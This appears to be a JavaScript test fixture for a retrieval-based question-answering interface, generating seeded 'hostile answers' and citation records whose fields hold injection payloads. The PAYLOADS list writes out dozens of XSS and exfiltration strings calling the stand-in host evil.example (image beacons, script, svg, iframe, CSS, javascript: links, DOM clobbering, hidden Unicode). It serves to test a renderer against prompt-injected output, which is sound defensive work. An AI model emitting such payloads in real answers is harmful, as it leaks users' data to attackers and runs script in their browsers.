/** Answers an attacker would like a model to give, and fields a poisoned book could hold. Seeded. */

const EVIL = "https://evil.example";
const PAYLOADS = [
  (n) => `![x](${EVIL}/p${n}.png)`,
  (n) => `![x][r]\n\n[r]: ${EVIL}/r${n}.png`,
  (n) => `[click me](${EVIL}/l${n})`,
  (n) => `[click](javascript:fetch('${EVIL}/js${n}'))`,
  (n) => `<img src="${EVIL}/i${n}.png" onerror="fetch('${EVIL}/e${n}')">`,
  (n) => `<script>fetch("${EVIL}/s${n}")</script>`,
  (n) => `<svg onload=fetch("${EVIL}/svg${n}")><image href="${EVIL}/img${n}"/><use href="${EVIL}/u${n}#a"/></svg>`,
  (n) => `<iframe src="${EVIL}/f${n}" srcdoc="<img src=${EVIL}/fd${n}>"></iframe>`,
  (n) => `<style>@import url("${EVIL}/c${n}.css"); * { background: url(${EVIL}/b${n}) }</style>`,
  (n) => `<link rel="stylesheet" href="${EVIL}/k${n}.css"><link rel="preload" as="image" href="${EVIL}/pre${n}"><link rel="dns-prefetch" href="//d${n}.evil.example">`,
  (n) => `<div style="background:url(${EVIL}/bg${n})">styled</div>`,
  (n) => `<video src="${EVIL}/v${n}" poster="${EVIL}/po${n}" autoplay></video><audio src="${EVIL}/a${n}" autoplay></audio>`,
  (n) => `<object data="${EVIL}/o${n}"></object><embed src="${EVIL}/em${n}">`,
  (n) => `<meta http-equiv="refresh" content="0;url=${EVIL}/m${n}"><base href="${EVIL}/">`,
  (n) => `<form action="${EVIL}/fo${n}"><input name=q autofocus onfocus="location='${EVIL}/in${n}'"><button>Go</button></form>`,
  (n) => `<a href="${EVIL}/h${n}" ping="${EVIL}/ping${n}">read more</a>`,
  (n) => `<details open ontoggle=fetch("${EVIL}/t${n}")><summary>x</summary></details>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=fetch("${EVIL}/mx${n}")>`,
  (n) => `<noscript><p title="</noscript><img src=${EVIL}/ns${n} onerror=alert(1)>">`,
  (n) => `<a id="__proto__" name="attributes" href="//evil.example/${n}">clobber</a><form id="x"><input name="childNodes"></form>`,
  (n) => `[ref][1] and [1]\n\n[1]: ${EVIL}/ref${n} "title"`,
  (n) => `<${EVIL}/auto${n}> www.evil.example/${n} mailto:a@evil.example`,
  (n) => `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:x${n}) [f](file:///etc/passwd)`,
  (n) => `[book?](https://example.org.evil.example/physical-ai/${n}) [at](https://example.org@evil.example/physical-ai/) [up](https://example.org/physical-ai/../../${n}) [proto](//evil.example/${n})`,
  (n) => `\`\`\`html\n</code></pre><img src="${EVIL}/code${n}">\n\`\`\``,
  (n) => `| a | b |\n|---|---|\n| <img src=${EVIL}/tb${n}> | [x](${EVIL}/tl${n}) |`,
  (n) => `\u202e\u200b\u2066hidden${n}\u2069 \u001b[31mred\u001b[0m \u{e0041}\u{e0042}`,
  (n) => `<template shadowrootmode="open"><img src="${EVIL}/dsd${n}"></template>`,
  (n) => `<quire-app></quire-app><quire-answer text="x"></quire-answer><img srcset="${EVIL}/ss${n} 2x">`,
  (n) => `<portal src="${EVIL}/po${n}"></portal><fencedframe></fencedframe><picture><source srcset="${EVIL}/pi${n}"><img></picture>`,
  () => "[".repeat(3000),
  () => "*".repeat(2000) + "a" + "_".repeat(2000),
  () => "> ".repeat(300) + "deep",
];

function random(seed) {
  let state = (seed + 1) * 2654435761;
  return (below) => {
    state = Math.imul(state ^ (state >>> 15), 2246822519) >>> 0;
    state = Math.imul(state ^ (state >>> 13), 3266489917) >>> 0;
    return ((state ^ (state >>> 16)) >>> 0) % below;
  };
}

/** The n-th hostile answer: one payload at least, mixed with others. */
export function hostileText(n) {
  const pick = random(n);
  const parts = [`Sentence ${n} looks harmless [1].`, PAYLOADS[n % PAYLOADS.length](n)];
  for (let i = pick(4); i > 0; i--) parts.splice(pick(parts.length + 1), 0, PAYLOADS[pick(PAYLOADS.length)](n * 10 + i));
  return parts.join(["\n\n", " ", "\n"][pick(3)]);
}

/** A citation whose every field attacks. */
export function hostileSource(n, number) {
  const evil = PAYLOADS[(n * 7 + number) % PAYLOADS.length](n);
  return {
    number, source_url: ["javascript:alert(1)", `${EVIL}/src${n}`, `https://example.org/physical-ai/x#${evil}`][n % 3],
    page_title: evil, section_heading: `<img src=${EVIL}/sec${n}>`, chunk_text: evil, quote: evil,
    relevance_score: 0.9, chunk_id: "00000000-0000-5000-a000-000000000000", source_file: `${EVIL}/file${n}`,
    char_start: 0, char_end: [...evil].length, line_start: 1, line_end: 1, highlight: null, cosine: 0.5,
  };
}
